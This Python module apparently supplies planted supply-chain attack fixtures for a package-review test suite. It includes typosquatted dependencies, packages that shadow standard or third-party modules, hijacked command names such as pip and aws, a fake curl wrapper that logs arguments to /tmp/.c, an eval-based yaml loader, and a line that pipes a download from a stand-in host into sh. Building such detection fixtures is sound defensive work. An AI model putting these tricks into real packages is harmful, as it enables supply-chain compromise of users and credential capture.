"""Names that are not what they seem, or not the package's to take: dependencies, commands, modules."""

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft

__all__: list[str] = []

_DEPENDENCY = Family.DEPENDENCY
_SHADOWING = Family.SHADOWING
_NAMESPACE = Family.NAMESPACE
_PLAIN = "def describe():\n    return 'a helper'\n"
_HARM = "import os\n\nos.system('curl -s https://ns.invalid | sh')\n"


@planted(_DEPENDENCY, base="client")
def by_address(draft: Draft) -> None:
    draft.requires.append("harborline-proto @ https://files.invalid/harborline_proto-1.0-py3-none-any.whl")


@planted(_DEPENDENCY, base="framework")
def by_repository(draft: Draft) -> None:
    draft.requires.append("quayside-core @ git+https://code.invalid/quayside/core.git@main")


@planted(_DEPENDENCY, base="client")
def letters_swapped(draft: Draft) -> None:
    draft.requires.append("reqeusts>=2.31")


@planted(_DEPENDENCY, base="command")
def letter_left_out(draft: Draft) -> None:
    draft.requires.append("pyton-dateutil>=2.8")


@planted(_DEPENDENCY, base="client", evasive=True)
def near_its_own_dependency(draft: Draft) -> None:
    draft.requires[0] = "htttpx>=0.27"


@planted(_DEPENDENCY, base="framework", evasive=True)
def look_alike_letter(draft: Draft) -> None:
    draft.requires.append("coIorama>=0.4")


@planted(_DEPENDENCY, base="framework", evasive=True)
def only_on_some_systems(draft: Draft) -> None:
    draft.requires.append('crypt0graphy>=42; sys_platform == "linux" and python_version >= "3.10"')


@planted(_DEPENDENCY, base="native", evasive=True)
def in_the_wheel_alone(draft: Draft) -> None:
    draft.lines.append("Requires-Dist: setuptoools>=68")


@planted(_DEPENDENCY, base="command", evasive=True)
def word_order(draft: Draft) -> None:
    draft.requires.append("dateutil-python>=2.8")


@planted(_SHADOWING, base="command", where=("random.py",), evasive=True)
def module_of_the_standard_library(draft: Draft) -> None:
    draft.put("random.py", "from os import urandom\n\n\ndef random():\n    return 4 / 10\n")


@planted(_SHADOWING, base="command")
def command_that_is_called_pip(draft: Draft) -> None:
    draft.entry_points += "pip = tidelog.cli:main\n"


@planted(_SHADOWING, base="client")
def script_that_is_called_curl(draft: Draft) -> None:
    draft.put_beyond(f"{draft.stem}.data/scripts/curl", '#!/bin/sh\necho "$@" >> /tmp/.c\nexec /usr/bin/curl "$@"\n')


@planted(_SHADOWING, base="framework", where=("requests/__init__.py",))
def package_of_another_distribution(draft: Draft) -> None:
    draft.put("requests/__init__.py", "def get(url, **options):\n    return None\n")


@planted(_SHADOWING, base="client", where=("yaml/__init__.py",), evasive=True)
def other_package_below_data(draft: Draft) -> None:
    draft.put_beyond(f"{draft.stem}.data/purelib/yaml/__init__.py", "def safe_load(text):\n    return eval(text)\n")


@planted(_SHADOWING, base="framework", where=("httpx/_hooks.py",), evasive=True)
def file_in_another_package(draft: Draft) -> None:
    draft.put("httpx/_hooks.py", _PLAIN)


@planted(_SHADOWING, base="client", evasive=True)
def commands_of_the_cloud(draft: Draft) -> None:
    draft.entry_points = "[console_scripts]\naws = harborline._client:Client\nkubectl = harborline._client:Client\n"


@planted(_SHADOWING, base="framework", evasive=True)
def graphical_python(draft: Draft) -> None:
    draft.entry_points += "\n[gui_scripts]\npython3 = quayside.cli:main\n"


@planted(_NAMESPACE, base="command", where=("tidehooks/__init__.py",))
def second_package(draft: Draft) -> None:
    draft.put("tidehooks/__init__.py", _HARM)


@planted(_NAMESPACE, base="client", where=("google/harbor/__init__.py",))
def part_of_a_shared_namespace(draft: Draft) -> None:
    draft.put("google/harbor/__init__.py", _PLAIN)


@planted(_NAMESPACE, base="framework", where=("_qs_runtime.py",))
def module_beside_the_package(draft: Draft) -> None:
    draft.put("_qs_runtime.py", _PLAIN)


@planted(_NAMESPACE, base="native", where=("acme_internal/__init__.py",), evasive=True)
def package_below_data(draft: Draft) -> None:
    draft.put_beyond(f"{draft.stem}.data/platlib/acme_internal/__init__.py", _PLAIN)


@planted(_NAMESPACE, base="framework", where=("opentelemetry/instrumentation/quayside.py",), evasive=True)
def namespace_without_an_init(draft: Draft) -> None:
    draft.put("opentelemetry/instrumentation/quayside.py", _PLAIN)


@planted(_NAMESPACE, base="client", where=("azure/__init__.py",))
def namespace_with_an_init(draft: Draft) -> None:
    draft.put("azure/__init__.py", "__path__ = __import__('pkgutil').extend_path(__path__, __name__)\n")


@planted(_NAMESPACE, base="native", where=("buoytools.cpython-312-x86_64-linux-gnu.so",), evasive=True)
def extension_at_the_top(draft: Draft) -> None:
    from tests.review.corpus.elf import make_shared_object  # noqa: PLC0415

    draft.put(
        "buoytools.cpython-312-x86_64-linux-gnu.so",
        make_shared_object(imports=("PyModule_Create2",), exports=("PyInit_buoytools",)),
    )
